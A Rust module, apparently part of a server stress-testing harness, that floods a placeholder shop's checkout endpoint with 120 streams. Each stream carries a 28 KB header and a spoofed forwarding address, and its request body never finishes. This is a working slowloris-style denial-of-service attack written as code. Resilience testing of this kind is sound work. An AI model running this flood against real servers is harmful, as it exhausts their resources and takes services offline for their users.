//! Requests with large heads whose bodies never end, so that the server must hold the heads.

use std::convert::Infallible;
use std::sync::Arc;

use bytes::Bytes;
use futures_util::StreamExt as _;
use futures_util::stream;
use http_body_util::StreamBody;
use hyper::Request;
use hyper::body::Frame;

use super::flood;
use crate::siege::context::{ATTACKER, Context};

/// Streams on one connection.
const HELD_HEAD_STREAMS: usize = 120;

/// Just below the maximum size of all headers together.
const HELD_HEADER_BYTES: usize = 28 * 1024;

pub async fn send(context: Arc<Context>) -> anyhow::Result<()> {
    let header: String =
        (0..HELD_HEADER_BYTES).map(|_| char::from(rand::random_range(b'a'..=b'z'))).collect();
    let request = || {
        let first = Ok::<_, Infallible>(Frame::data(Bytes::from_static(b"{")));
        Request::post("http://shop.example/api/storefront/1/checkout")
            .header("content-type", "application/json")
            .header("x-forwarded-for", ATTACKER)
            .header("x-held", &header)
            .body(StreamBody::new(stream::iter([first]).chain(stream::pending())))
    };
    flood(&context, HELD_HEAD_STREAMS, request).await
}
